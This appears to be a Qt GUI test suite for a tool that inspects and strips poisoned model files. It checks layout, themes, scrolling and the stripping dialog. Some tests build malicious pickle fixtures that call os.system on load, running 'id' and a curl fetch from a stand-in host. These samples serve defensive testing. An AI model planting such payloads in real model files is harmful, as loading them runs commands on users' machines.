// SPDX-License-Identifier: GPL-3.0-or-later
// What the window of Model mode shows at which size, in which theme and after which file: names, headings, marks,
// panels, scroll places; and what is asked before a copy is stripped.
#include "made_models.h"
#include "model_bench.h"
#include "notebook_probe.h"

#include "app/session/comparing.h"
#include "app/session/stripping.h"
#include "app/shell/mode_page.h"
#include "app/shell/strip_sheet.h"
#include "widgets/common/labels.h"
#include "widgets/common/style.h"
#include "widgets/model/answer_row.h"
#include "widgets/model/byte_view.h"
#include "widgets/model/model_tables.h"
#include "widgets/model/model_view.h"
#include "widgets/model/program_lists.h"
#include "widgets/model/tensor_panel.h"
#include "widgets/model/tensor_table.h"
#include "widgets/models/compare_tables.h"

#include <QtCore/QDir>
#include <QtCore/QFile>
#include <QtGui/QPainter>
#include <QtTest/QSignalSpy>
#include <QtTest/QTest>
#include <QtWidgets/QCheckBox>
#include <QtWidgets/QFileDialog>
#include <QtWidgets/QHeaderView>
#include <QtWidgets/QLineEdit>
#include <QtWidgets/QPushButton>
#include <QtWidgets/QScrollBar>
#include <QtWidgets/QStyleOptionTab>

#include <algorithm>

using namespace cupel;
using namespace cupel::app;
using cupel::test::array;
using cupel::test::pickled;
using cupel::test::Workbench;

class ModelWindowTest : public QObject, private test::ModelBench {
    Q_OBJECT
private Q_SLOTS:
    void initTestCase();
    void aModelIsStripped();
    void theNameComesFirst();
    void otherFilesStartAtTheirStart();
    void headingsHaveRoomForTheArrow();
    void theMarkStandsOutInEveryTheme();
    void numbersStandOutInEveryTheme();
    void onlyTheShownTabIsUnderlined();
    void largeTextKeepsPanelsInReach();
    void thePageOpensAtItsTop();
    void loadersAreReadWithoutTooltips();
    void anotherCommandIsSeen();
};

void ModelWindowTest::initTestCase()
{
    QVERIFY(m_folder.isValid());
    QVERIFY(QDir(m_folder.path()).mkpath(QStringLiteral("work")));
    write("work/b_good.pkl", pickled("GLOBAL collections OrderedDict\nEMPTY_TUPLE\nREDUCE\nSTOP\n"));
    write("work/d_plain.npy", array("(4, 2)", 32) + array("(3,)", 12) + array("(1, 1, 9)", 36));
}

void ModelWindowTest::aModelIsStripped()
{
    QVERIFY(QFile::copy(
        QStringLiteral(CUPEL_SOURCE_DIR "/tests/golden/cli/strip_preview/input/model.gguf"), path("poisoned.gguf")));
    Workbench bench(path("home-l"));
    QVERIFY(openModel(bench, path("poisoned.gguf")));
    QPushButton* button = nullptr;
    for (auto* one : bench.window.findChild<widgets::ModelView*>()->findChildren<QPushButton*>()) {
        button = one->text().startsWith(QStringLiteral("Write a stripped copy")) ? one : button;
    }
    QVERIFY(button && button->isVisible() && !button->accessibleDescription().isEmpty());
    auto* stripping = bench.window.findChild<Stripping*>();
    QVERIFY(stripping);
    QSignalSpy planned(stripping, &Stripping::planned);
    QTest::mouseClick(button, Qt::LeftButton);
    QVERIFY(planned.wait(10'000));
    const auto plan = planned[0][0].value<StripPlanPtr>();
    QVERIFY(plan && plan->items.size() == 4);
    auto* sheet = bench.window.findChild<StripSheet*>();
    QVERIFY(sheet && sheet->isVisible());
    QTest::qWait(100);
    QVERIFY(sheet->no()->hasFocus());
    test::keep(bench.window, QStringLiteral("model-strip"));
    // Ticked as the command line does: hidden bytes and poisoned templates, not metadata.
    const auto ticked = [sheet](StripSheet::Kind kind) { return sheet->box(kind)->isChecked(); };
    QVERIFY(ticked(StripSheet::Hidden) && ticked(StripSheet::Templates) && !ticked(StripSheet::Metadata));
    QVERIFY(sheet->box(StripSheet::Metadata)->isEnabled());
    QVERIFY(
        sheet->box(StripSheet::Hidden)->accessibleDescription().contains(QStringLiteral("Padding that is not zero")));
    sheet->box(StripSheet::Hidden)->click();
    sheet->box(StripSheet::Templates)->click();
    QVERIFY(!sheet->yes()->isEnabled()); // nothing would go
    sheet->box(StripSheet::Hidden)->click();
    QVERIFY(sheet->yes()->isEnabled());
    const auto wish = sheet->wish();
    QVERIFY(wish.hidden && !wish.templates && !wish.metadata);
    QTest::keyClick(sheet->no(), Qt::Key_Space);
    stripping->planAgain(wish);
    QVERIFY(planned.wait(10'000));
    for (auto* dialog : bench.window.findChildren<QFileDialog*>()) {
        dialog->close();
    }
    const auto part = planned[1][0].value<StripPlanPtr>();
    QVERIFY(part && !part->items.empty() && part->items.size() < 4);
    for (const auto& item : part->items) {
        QVERIFY(item.kind != convert::StripItem::Kind::Metadata && item.kind != convert::StripItem::Kind::Template);
    }
    QSignalSpy written(stripping, &Stripping::finished);
    stripping->write(plan, path("plain.gguf"));
    QVERIFY(written.wait(10'000));
    QCOMPARE(written[0][1].toString(), QString());
    QFile copy(path("plain.gguf"));
    QVERIFY(copy.open(QIODevice::ReadOnly));
    const auto bytes = copy.readAll();
    QVERIFY(!bytes.contains("__class__") && !bytes.contains("hidden in padding") && !bytes.contains("someone"));
    QFile old(path("poisoned.gguf"));
    QVERIFY(old.open(QIODevice::ReadOnly));
    QVERIFY(old.readAll().contains("__class__"));
    QCOMPARE(Stripping::suggestedPath(path("a.pt")), path("a.stripped.pt"));
    stripping->write(plan, path("poisoned.gguf"));
    QVERIFY(written.wait(10'000));
    QVERIFY(written[1][1].toString().contains(QStringLiteral("never changed")));
}

void ModelWindowTest::theNameComesFirst()
{
    QVERIFY(QFile::copy(QStringLiteral(CUPEL_SOURCE_DIR "/tests/data/formats/zip/torch.pt"),
        path("sentiment-classifier-distilled-v2.pt")));
    Workbench bench(path("home-p"));
    bench.window.resize(1440, 900);
    QVERIFY(openModel(bench, path("sentiment-classifier-distilled-v2.pt")));
    auto* view = bench.window.findChild<widgets::ModelView*>();
    const auto title = [view]() -> widgets::ElidedLabel* {
        for (auto* label : view->findChildren<widgets::ElidedLabel*>()) {
            if (label->isVisible() && label->fullText() == QStringLiteral("sentiment-classifier-distilled-v2.pt")) {
                return label;
            }
        }
        return nullptr;
    };
    QVERIFY(title());
    QCOMPARE(title()->text(), title()->fullText());
    // Where room is short, buttons are called shorter; their names stay.
    bench.window.resize(900, 700);
    QTest::qWait(50);
    QCOMPARE(title()->text(), title()->fullText());
    int buttons = 0;
    for (auto* button : view->findChildren<QPushButton*>()) {
        buttons += button->isVisible() && button->accessibleName().contains(QStringLiteral("stripped copy")) ? 1 : 0;
    }
    QCOMPARE(buttons, 1);
}

void ModelWindowTest::otherFilesStartAtTheirStart()
{
    std::string source;
    for (int i = 0; i < 400; ++i) {
        source += "GLOBAL collections OrderedDict\nEMPTY_TUPLE\nREDUCE\nPOP\n";
    }
    source += "NONE\nSTOP\n";
    QVERIFY(QDir(m_folder.path()).mkpath(QStringLiteral("two")));
    write("two/a.pkl", pickled(source));
    write("two/b.pkl", pickled(source));
    Workbench bench(path("home-q"));
    QVERIFY(openModel(bench, path("two")));
    auto& state = bench.session.inspecting().state();
    auto* opcodes = bench.window.findChild<widgets::OpcodeList*>();
    auto* program = bench.window.findChild<widgets::ProgramList*>();
    auto* bytes = bench.window.findChild<widgets::ByteList*>();
    opcodes->setFocus();
    QTest::keyClick(opcodes, Qt::Key_End);
    for (widgets::LineList* list : {static_cast<widgets::LineList*>(opcodes), static_cast<widgets::LineList*>(program),
             static_cast<widgets::LineList*>(bytes)}) {
        QVERIFY(list->verticalScrollBar()->value() > 0);
    }
    bench.session.review().showArtifact(path("two/b.pkl").toStdString());
    QVERIFY(QTest::qWaitFor([&] { return state.reading()->analysis->artifact.path.ends_with("b.pkl"); }, 5'000));
    QTest::qWait(50);
    for (widgets::LineList* list : {static_cast<widgets::LineList*>(opcodes), static_cast<widgets::LineList*>(program),
             static_cast<widgets::LineList*>(bytes)}) {
        QCOMPARE(list->verticalScrollBar()->value(), 0);
        QCOMPARE(list->currentRow(), 0U);
    }
}

void ModelWindowTest::headingsHaveRoomForTheArrow()
{
    const widgets::Style style;
    Workbench bench(path("home-r"));
    for (const double zoom : {1.0, 2.0}) {
        widgets::setTextZoom(zoom);
        QVERIFY(openModel(bench, path("work/d_plain.npy")));
        auto* table = bench.window.findChild<widgets::TensorTable*>()->table();
        auto* header = table->horizontalHeader();
        if (zoom == 1.0) { // the name has what the others leave, and the place is seen
            QCOMPARE(table->horizontalScrollBar()->maximum(), 0);
            QVERIFY(header->sectionSize(0) > 200);
        }
        for (int column = 0; column < 5; ++column) {
            table->sortByColumn(column, Qt::AscendingOrder);
            const QString words = table->model()->headerData(column, Qt::Horizontal).toString();
            const int needed = QFontMetrics(widgets::font(widgets::TextRole::Small, true)).horizontalAdvance(words);
            constexpr int arrow = 16;
            QVERIFY2(header->sectionSize(column) >= needed + arrow + 8, qPrintable(words));
            QStyleOptionHeader option; // and what is painted in it
            option.rect = QRect(0, 0, header->sectionSize(column), header->height());
            option.orientation = Qt::Horizontal;
            option.sortIndicator = QStyleOptionHeader::SortUp;
            const QRect label = style.subElementRect(QStyle::SE_HeaderLabel, &option, header);
            const QRect place = style.subElementRect(QStyle::SE_HeaderArrow, &option, header);
            QVERIFY2(label.width() >= needed && !label.intersects(place), qPrintable(words));
            QImage picture(option.rect.size(), QImage::Format_RGB32); // the title is there, left of the arrow
            picture.fill(Qt::white);
            QPainter painter(&picture);
            option.text = words;
            style.drawControl(QStyle::CE_Header, &option, &painter, header);
            painter.end();
            int dark = 0;
            for (int x = label.left(); x <= label.right(); ++x) {
                for (int y = 4; y < picture.height() - 4; ++y) {
                    dark += qGray(picture.pixel(x, y)) < 160 ? 1 : 0;
                }
            }
            QVERIFY2(dark > 20, qPrintable(words));
        }
    }
    widgets::setTextZoom(1);
}

// The bar has the colour of text in themes of high contrast; what marks the place in it must not vanish.
void ModelWindowTest::theMarkStandsOutInEveryTheme()
{
    Workbench bench(path("home-s"));
    QVERIFY(openModel(bench, path("work/b_good.pkl")));
    auto* strip = bench.window.findChild<widgets::CoverageStrip*>();
    auto& state = bench.session.inspecting().state();
    const auto before = widgets::currentTheme();
    for (const auto theme : {widgets::ThemeName::Light, widgets::ThemeName::Dark, widgets::ThemeName::ContrastLight,
             widgets::ThemeName::ContrastDark}) {
        widgets::setTheme(theme);
        state.select({});
        const QImage plain = strip->grab().toImage();
        state.select({10, 11});
        const QImage marked = strip->grab().toImage();
        int strongest = 0;
        const int y = plain.height() / 4; // inside the bar
        for (int x = 0; x < plain.width(); ++x) {
            strongest = std::max(strongest, std::abs(qGray(plain.pixel(x, y)) - qGray(marked.pixel(x, y))));
        }
        QVERIFY2(strongest > 60, qPrintable(QString::number(strongest)));
    }
    widgets::setTheme(before);
    state.select({});
}

// The one under the pointer has another sign: two lines would say that two are shown.
void ModelWindowTest::numbersStandOutInEveryTheme()
{
    write("wide.npy", array("(400,)", 1600));
    Workbench bench(path("home-wide"));
    QVERIFY(openModel(bench, path("wide.npy")));
    auto* strip = bench.window.findChild<widgets::CoverageStrip*>();
    const auto before = widgets::currentTheme();
    for (const auto theme : {widgets::ThemeName::Light, widgets::ThemeName::Dark, widgets::ThemeName::ContrastLight,
             widgets::ThemeName::ContrastDark}) {
        widgets::setTheme(theme);
        bench.session.inspecting().state().select({});
        const QImage shown = strip->grab().toImage();
        const int inside = qGray(shown.pixel(shown.width() * 3 / 4, shown.height() / 4));
        const int ground = qGray(widgets::color(widgets::Token::Surface).rgb());
        QVERIFY2(std::abs(inside - ground) > 50, qPrintable(QString::number(inside - ground)));
    }
    widgets::setTheme(before);
}

void ModelWindowTest::onlyTheShownTabIsUnderlined()
{
    const widgets::Style style;
    const auto underlined = [&style](QStyle::State state) {
        QImage image(100, 36, QImage::Format_RGB32);
        image.fill(Qt::magenta);
        QStyleOptionTab option;
        option.rect = image.rect();
        option.state = QStyle::State_Enabled | state;
        QPainter painter(&image);
        style.drawControl(QStyle::CE_TabBarTabShape, &option, &painter, nullptr);
        painter.end();
        return image.pixelColor(50, image.height() - 2) != QColor(Qt::magenta);
    };
    QVERIFY(underlined(QStyle::State_Selected));
    QVERIFY(underlined(QStyle::State_Selected | QStyle::State_MouseOver));
    QVERIFY(!underlined(QStyle::State_MouseOver));
}

void ModelWindowTest::largeTextKeepsPanelsInReach()
{
    Workbench bench(path("home-u"));
    bench.window.resize(1440, 900);
    QVERIFY(openModel(bench, path("work")));
    auto* shown = bench.window.findChild<ModePage*>(QStringLiteral("model"));
    const auto parts = shown->parts();
    for (auto* panel : {parts.navigator, parts.inspector}) {
        QVERIFY(panel->isVisible() && !shown->edgeButton(panel)->isVisible());
    }
    bench.session.settings().set(keys::textZoom, QStringLiteral("2"));
    QTest::qWait(200);
    for (auto* panel : {parts.navigator, parts.inspector}) {
        auto* button = shown->edgeButton(panel);
        QVERIFY(!panel->isVisible() && button->isVisible() && !button->accessibleName().isEmpty());
        QTest::mouseClick(button, Qt::LeftButton);
        QTest::qWait(20);
        QVERIFY(panel->isVisible() && button->isVisible() && button->isChecked());
        const QRect frame(panel->mapTo(shown, QPoint()), panel->size());
        QVERIFY(!frame.intersects(QRect(button->mapTo(shown, QPoint()), button->size())));
        QTest::mouseClick(button, Qt::LeftButton);
        QTest::qWait(20);
        QVERIFY(!panel->isVisible() && !button->isChecked());
    }
    // What the bytes are is said to its last line.
    auto* strip = bench.window.findChild<widgets::CoverageStrip*>();
    QVERIFY(strip->height() >= strip->sizeHint().height());
    const QRect place(strip->mapTo(shown, QPoint()), strip->size());
    QVERIFY2(shown->rect().contains(place), qPrintable(QString::number(place.bottom())));
    // A table has some rows, and the chosen tensor its numbers: what is above the bytes scrolls.
    QVERIFY(openModel(bench, path("work/d_plain.npy")));
    auto* tensors = bench.window.findChild<widgets::TensorTable*>();
    auto* view = bench.window.findChild<widgets::ModelView*>();
    QVERIFY(view->takeFilter());
    QTest::keyClick(tensors->filter(), Qt::Key_Down);
    QTest::qWait(50);
    QVERIFY(tensors->table()->viewport()->height() >= 3 * tensors->table()->rowHeight(0));
    const QRect seen(view->mapTo(shown, QPoint()), view->size());
    const QRect current = tensors->table()->visualRect(tensors->table()->currentIndex());
    QVERIFY(seen.contains(tensors->table()->viewport()->mapTo(shown, current.center())));
    QVERIFY(tensors->table()->viewport()->visibleRegion().contains(current.center()));
    auto* numbers = tensors->findChild<widgets::TensorPanel*>();
    QVERIFY(numbers && numbers->isVisible() && numbers->height() >= numbers->sizeHint().height());
    bench.session.settings().set(keys::textZoom, QStringLiteral("1"));
    QTest::qWait(200);
    QVERIFY(parts.navigator->isVisible() && !shown->edgeButton(parts.navigator)->isVisible());
}

// Whoever gets the keyboard: the answers are seen first, also in a low window.
void ModelWindowTest::thePageOpensAtItsTop()
{
    write("bad.pkl", pickled("GLOBAL os system\nMARK\nSTRING 'id'\nTUPLE\nREDUCE\nSTOP\n"));
    Workbench bench(path("home-top"));
    bench.window.resize(720, 450);
    bench.window.open({OpenTarget{path("bad.pkl"), {}, {}, {}}});
    QVERIFY(bench.waitForScan());
    QTRY_COMPARE(bench.window.mode(), QStringLiteral("model"));
    auto& state = bench.session.inspecting().state();
    QTRY_VERIFY(state.reading() != nullptr && !bench.session.busy());
    QTest::qWait(200);
    auto* answers = bench.window.findChild<widgets::AnswerRow*>();
    QCOMPARE(answers->visibleRegion().boundingRect().top(), 0);
    QVERIFY(answers->visibleRegion().boundingRect().height() > 0);
}

void ModelWindowTest::loadersAreReadWithoutTooltips()
{
    write("load.pkl", pickled("GLOBAL os system\nMARK\nSTRING 'id'\nTUPLE\nREDUCE\nSTOP\n"));
    Workbench bench(path("home-load"));
    bench.window.resize(1440, 900);
    QVERIFY(openModel(bench, path("load.pkl")));
    auto* view = bench.window.findChild<widgets::ModelView*>();
    for (int i = 0; i < view->tabs()->count(); ++i) {
        if (view->tabs()->tabText(i) == QStringLiteral("Loaders")) {
            view->tabs()->setCurrentIndex(i);
        }
    }
    const auto tables = view->findChildren<widgets::FactTable*>();
    const auto table = std::find_if(tables.begin(), tables.end(), [](const auto* one) { return one->isVisible(); });
    QVERIFY(table != tables.end());
    QTest::qWait(50);
    int width = 0;
    for (int column = 0; column < (*table)->model()->columnCount(); ++column) {
        width += (*table)->columnWidth(column);
        for (int row = 0; row < (*table)->model()->rowCount(); ++row) {
            const QRect cell = (*table)->visualRect((*table)->model()->index(row, column));
            const QString words = (*table)->model()->index(row, column).data().toString();
            const QFontMetrics metrics((*table)->model()->index(row, column).data(Qt::FontRole).value<QFont>());
            const QRect wanted = metrics.boundingRect(QRect(0, 0, cell.width() - 6, 10'000), Qt::TextWordWrap, words);
            QVERIFY2(wanted.height() <= cell.height() && wanted.width() <= cell.width(),
                qPrintable(QStringLiteral("%1: %2 x %3 in %4 x %5")
                        .arg(words)
                        .arg(wanted.width())
                        .arg(wanted.height())
                        .arg(cell.width())
                        .arg(cell.height())));
        }
    }
    QVERIFY(width <= (*table)->viewport()->width());
}

// The call stays and does something else: no page says that nothing differs.
void ModelWindowTest::anotherCommandIsSeen()
{
    const auto calls = [](const std::string& command) {
        return pickled("GLOBAL os system\nMARK\nSTRING '" + command + "'\nTUPLE\nREDUCE\nSTOP\n");
    };
    write("before.pkl", calls("echo hello"));
    write("after.pkl", calls("curl http://files.example/x"));
    Workbench bench(path("home-diff"));
    QVERIFY(openModel(bench, path("after.pkl")));
    QTest::keyClick(&bench.window, Qt::Key_D, Qt::ControlModifier);
    bench.session.comparing().compareWithPath(path("before.pkl"));
    const auto& state = bench.session.comparing().state();
    QTRY_VERIFY_WITH_TIMEOUT(state.modelStage() == widgets::CompareState::ModelStage::Done, 30'000);
    QCOMPARE(state.count(review::FindingChange::Kind::Changed), std::size_t{1});
    QCOMPARE(state.count(review::FindingChange::Kind::Same), std::size_t{0});
    using Section = widgets::CompareSection;
    const auto& tables = *state.tables();
    QCOMPARE(widgets::compareTally(tables, Section::Findings), QStringLiteral("1 changed"));
    QCOMPARE(widgets::compareTally(tables, Section::Programs), QStringLiteral("1 changed"));
    const auto& members = tables.of(Section::Members);
    QCOMPARE(members.size(), std::size_t{1});
    QVERIFY(widgets::compareCell(tables, Section::Members, members[0], widgets::CompareColumn::Difference)
            .contains(QStringLiteral("differ, the first at byte")));
}

QTEST_MAIN(ModelWindowTest)
#include "tst_model_window.moc"
